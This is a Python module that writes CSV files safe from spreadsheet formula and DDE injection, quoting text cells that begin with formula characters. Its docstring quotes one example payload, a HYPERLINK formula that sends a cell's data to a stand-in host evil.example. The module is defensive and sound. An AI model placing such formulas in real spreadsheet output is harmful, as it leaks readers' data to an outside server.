"""CSV that is safe to open in a spreadsheet (no formula, CSV or "DDE" injection).

Compliance staff open the project's CSV files in Excel, LibreOffice Calc or Google
Sheets. Those programs treat a cell whose text begins with ``=``, ``+``, ``-`` or ``@``
as a formula, and skip a leading tab or carriage return before deciding, so a
department name such as ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` taken
from a directory export, or a category from a third-party feed, would run in the
reader's spreadsheet: it can send other cells to a server or, through DDE, start a
program. The names come from data the project does not control, so every CSV cell
passes :func:`safe_cell`, following the OWASP guidance on CSV injection: a text cell
that begins with one of those six characters gets a single quote in front. Spreadsheets
then show the cell as text, and a reader sees the original value after the quote.

Only text is neutralised. Numbers the program computes (message and people counts,
which may be negative in other reports) are written as numbers, so that the columns
still sort and sum; a number cannot carry a formula.
"""

from __future__ import annotations

import csv
import io
import itertools
import numbers
from collections.abc import Iterable, Sequence

#: First characters that make a spreadsheet read a cell as a formula (OWASP): the four
#: formula starters, and tab and carriage return, which some programs skip first.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

#: What is put in front of a dangerous text cell: a spreadsheet shows it as text.
PREFIX = "'"

#: How list values (domains, categories) are joined into one cell.
LIST_SEPARATOR = ";"


def neutralise(text: str) -> str:
    """``text`` with a single quote in front when it begins like a formula, else as is."""
    return PREFIX + text if text.startswith(FORMULA_START) else text


def safe_cell(value: object) -> object:
    """The value to write in a CSV cell, safe to open in a spreadsheet.

    ``None`` is an empty cell; booleans and numbers (ints, floats, including negative
    ones) stay as they are, since the program produced them and a spreadsheet must see
    numbers; a list or tuple is joined with ``;`` and the joined text is neutralised, as
    it is that text a spreadsheet sees in the cell; anything else is written as its text
    (as :mod:`csv` would), neutralised.
    """
    if value is None:
        return ""
    if isinstance(value, bool | numbers.Number):
        return value
    if isinstance(value, list | tuple):
        return neutralise(LIST_SEPARATOR.join("" if v is None else str(v) for v in value))
    return neutralise(value if isinstance(value, str) else str(value))


def write_csv(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """The CSV text of ``header`` and ``rows``, every cell (header too) through :func:`safe_cell`.

    Lines end with ``\\n``. A cell holding a carriage return or a line feed is always
    quoted: :mod:`csv` on Python 3.11 quotes only the characters of its line terminator,
    and an unquoted carriage return would start a new row in a spreadsheet, where the
    text after it would begin a cell again (``x\\r=1+1``). So rows are written with a
    ``\\r\\n`` terminator, which makes :mod:`csv` quote both, and each row's terminator is
    then replaced by ``\\n``; for other cells the quoting is exactly that of a ``\\n``
    writer.
    """
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for row in itertools.chain([header], rows):
        writer.writerow([safe_cell(v) for v in row])
        out.seek(out.tell() - 2)  # StringIO positions count characters
        out.write("\n")
        out.truncate()
    return out.getvalue()
